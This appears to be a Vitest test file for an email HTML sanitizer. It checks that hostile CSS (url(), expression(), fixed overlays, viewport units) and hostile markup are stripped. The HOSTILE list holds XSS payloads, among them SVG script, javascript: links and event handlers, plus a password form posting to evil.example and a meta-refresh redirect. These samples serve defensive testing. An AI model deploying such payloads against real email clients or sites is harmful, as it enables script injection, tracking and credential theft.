import { describe, expect, it } from 'vitest';
import { safeStyleValue, sanitizeEmailHtml } from '../../src/adapters/html/sanitize.js';

/**
 * CSS in hostile mail: only colour, calc and gradient functions survive; anything that can fetch
 * (url, image-set, src), compute from outside (var, attr, env) or run (expression) is removed, as
 * are boxes that could cover the page (negative margins, fixed/absolute/sticky, viewport units,
 * huge sizes, z-index). A remote background counts as blocked remote content, like an <img>.
 */
const style = (css: string) => sanitizeEmailHtml(`<div style="${css.replace(/"/g, '&quot;')}">x</div>`);

const CASES: { name: string; css: string; kept: string | null; blocked?: number }[] = [
  // kept
  { name: 'hex and named colours', css: 'color: #102030; background-color: white', kept: 'color:#102030;background-color:white' },
  { name: 'rgb / rgba / hsl / hsla', css: 'color: rgb(1, 2, 3); background-color: hsla(120, 50%, 50%, 0.5)', kept: 'color:rgb(1, 2, 3);background-color:hsla(120, 50%, 50%, 0.5)' },
  { name: 'calc in a width', css: 'width: calc(100% - 20px)', kept: 'width:calc(100% - 20px)' },
  { name: 'a linear gradient', css: 'background-image: linear-gradient(to right, #fff, rgb(0,0,0))', kept: 'background-image:linear-gradient(to right, #fff, rgb(0,0,0))' },
  { name: 'a radial gradient background', css: 'background: radial-gradient(circle, red, blue)', kept: 'background:radial-gradient(circle, red, blue)' },
  { name: 'positive margins, auto', css: 'margin: 0 auto 10px 4px', kept: 'margin:0 auto 10px 4px' },
  { name: 'position relative', css: 'position: relative', kept: 'position:relative' },
  { name: 'a modest fixed width', css: 'width: 600px; max-width: 100%', kept: 'width:600px;max-width:100%' },
  { name: 'font family with digits and quotes', css: "font-family: 'Source Sans 3', Arial", kept: "font-family:'Source Sans 3', Arial" },
  // removed: functions
  { name: 'url()', css: 'background-image: url(https://t.example/p.gif)', kept: null, blocked: 1 },
  { name: 'URL() in capitals, protocol-relative', css: 'background: URL(//t.example/p.gif) red', kept: null, blocked: 1 },
  { name: 'url() with a space before the paren', css: 'background: url (https://t.example/p.gif)', kept: null, blocked: 1 },
  { name: 'image-set()', css: 'background-image: image-set("https://t.example/a.png" 1x)', kept: null, blocked: 1 },
  { name: '-webkit-image-set()', css: 'background-image: -webkit-image-set(url(https://t.example/a.png) 1x)', kept: null, blocked: 1 },
  { name: 'src()', css: 'background-image: src("https://t.example/a.png")', kept: null, blocked: 1 },
  { name: 'expression()', css: 'width: expression(alert(1))', kept: null },
  { name: 'var()', css: 'color: var(--x)', kept: null },
  { name: 'attr() and env()', css: 'width: env(safe-area-inset-left); color: attr(data-x)', kept: null },
  { name: 'element() and cross-fade()', css: 'background: element(#x); background-image: cross-fade(url(a), url(b))', kept: null },
  { name: 'a gradient hiding a url()', css: 'background: linear-gradient(red, blue), url(https://t.example/p.gif)', kept: null, blocked: 1 },
  { name: 'a local url() (still no fetch)', css: 'background: url(/api/v1/whatever)', kept: null, blocked: 0 },
  { name: 'a CSS escape spelling url', css: 'background: \\75 rl(https://t.example/)', kept: null, blocked: 1 },
  { name: 'a comment splitting a function', css: 'background: u/**/rl(x)', kept: null },
  // removed: overlays
  { name: 'negative margin', css: 'margin-top: -500px', kept: null },
  { name: 'negative margin in the shorthand', css: 'margin: 0 0 0 -9999px', kept: null },
  { name: 'negative margin through calc', css: 'margin-left: calc(0px - 500px)', kept: null },
  { name: 'position fixed', css: 'position: fixed', kept: null },
  { name: 'position absolute', css: 'position: absolute', kept: null },
  { name: 'position sticky', css: 'position: sticky', kept: null },
  { name: 'z-index', css: 'z-index: 2147483647', kept: null },
  { name: 'viewport width', css: 'width: 100vw', kept: null },
  { name: 'viewport height', css: 'min-height: 100vh', kept: null },
  { name: 'dynamic viewport units', css: 'height: 100dvh', kept: null },
  { name: 'vmax inside calc', css: 'width: calc(10px + 100vmax)', kept: null },
  { name: 'a huge width', css: 'width: 99999px', kept: null },
  { name: 'a huge height in em', css: 'height: 500em', kept: null },
  { name: 'a width over 100%', css: 'width: 500%', kept: null },
  { name: 'multiplication in calc', css: 'width: calc(100px * 1000)', kept: null },
  { name: 'a huge padding', css: 'padding: 10000px', kept: null },
  { name: 'top/left offsets', css: 'top: 0; left: 0', kept: null },
];

describe('sanitizeEmailHtml: CSS', () => {
  it.each(CASES)('$name', ({ css, kept, blocked }) => {
    const out = style(css);
    if (kept === null) expect(out.html).toBe('<div>x</div>');
    else expect(out.html).toBe(`<div style="${kept}">x</div>`);
    expect(out.blockedRemote).toBe(blocked ?? 0);
  });

  it('drops an absurdly long declaration before any pattern runs on it (a fuzzed 50 KB run of digits took 12 s)', () => {
    const out = style(`color: red; width: ${'9'.repeat(50_000)}x; font-weight: bold`);
    expect(out.html).toBe('<div style="color:red;font-weight:bold">x</div>');
    expect(style(`padding: ${'1px '.repeat(300)}`).html).toBe('<div>x</div>');
  });

  it('keeps the safe declarations of a mixed style and drops the rest', () => {
    const out = style('color: red; position: fixed; z-index: 9; background: url(https://t.example/x); margin: -1px; font-weight: bold');
    expect(out.html).toBe('<div style="color:red;font-weight:bold">x</div>');
    expect(out.blockedRemote).toBe(1);
  });

  it('counts a remote background attribute as blocked, and keeps cid: images working', () => {
    const out = sanitizeEmailHtml('<table background="https://t.example/bg.png"><tr><td background="http://t.example/c.png">x</td></tr></table><img src="cid:a@b">', {
      cidUrls: { 'a@b': '/api/v1/contacts/c/attachments/1' },
    });
    expect(out.blockedRemote).toBe(2);
    expect(out.html).not.toContain('background=');
    expect(out.html).toContain('src="/api/v1/contacts/c/attachments/1"');
  });

  it.each([
    ['color', 'red', true], ['margin', '-0.5em', false], ['position', 'static', true], ['width', '2999px', true], ['width', '3001px', false],
    ['height', '50%', true], ['line-height', '150%', true], ['font-size', '200%', true], ['background', 'var(--a)', false],
  ] as const)('safeStyleValue(%s, %s) = %s', (p, v, ok) => expect(safeStyleValue(p, v)).toBe(ok));
});

/** Hostile markup beyond CSS: each output must be inert and keep the harmless text. */
const HOSTILE: { name: string; html: string; keeps?: string; forbid: RegExp }[] = [
  { name: 'SVG with script and foreignObject', html: '<svg><script>alert(1)</script><foreignObject><iframe src="javascript:alert(2)"></iframe></foreignObject></svg>ok', keeps: 'ok', forbid: /svg|script|iframe|foreignObject|javascript/i },
  { name: 'SVG animate setting href', html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', forbid: /svg|animate|javascript/i },
  { name: 'SVG use of a remote sprite', html: '<svg><use href="https://evil.example/s.svg#x"/></svg>', forbid: /svg|use|evil/i },
  { name: 'MathML href', html: '<math><mi href="javascript:alert(1)">x</mi></math>', forbid: /math|javascript/i },
  { name: 'meta refresh in the body', html: '<div><meta http-equiv="refresh" content="0; url=https://evil.example/">text</div>', keeps: 'text', forbid: /meta|refresh|evil/i },
  { name: 'a form posting a password', html: '<form method="post" action="https://evil.example/"><input type="password" name="p"><button>Log in</button></form>', forbid: /form|input|button|evil/i },
  { name: 'formaction on a lone button', html: '<button formaction="javascript:alert(1)">go</button>', forbid: /button|javascript/i },
  { name: 'base href re-targeting links', html: '<base href="https://evil.example/"><a href="/x">x</a>', forbid: /base|evil/i },
  { name: 'javascript: with a newline inside', html: '<a href="java\nscript:alert(1)">x</a>', keeps: 'x', forbid: /javascript|java\s*script/i },
  { name: 'event handlers on allowed tags', html: '<p onclick="alert(1)" onmouseover="alert(2)">p</p><img src="cid:x" onload="alert(3)">', keeps: '<p>p</p>', forbid: /on[a-z]+=/i },
  { name: 'srcset with a remote image', html: '<img srcset="https://t.example/a.png 1x">', forbid: /srcset|t\.example/i },
  { name: 'a link with a data: URL', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>', forbid: /data:|script/i },
  { name: 'a style element with @import', html: '<style>@import "https://evil.example/x.css";</style>t', keeps: 't', forbid: /style|import|evil/i },
];

describe('sanitizeEmailHtml: hostile markup', () => {
  it.each(HOSTILE)('$name', ({ html, keeps, forbid }) => {
    const out = sanitizeEmailHtml(html).html;
    expect(out).not.toMatch(forbid);
    if (keeps) expect(out).toContain(keeps);
  });
});
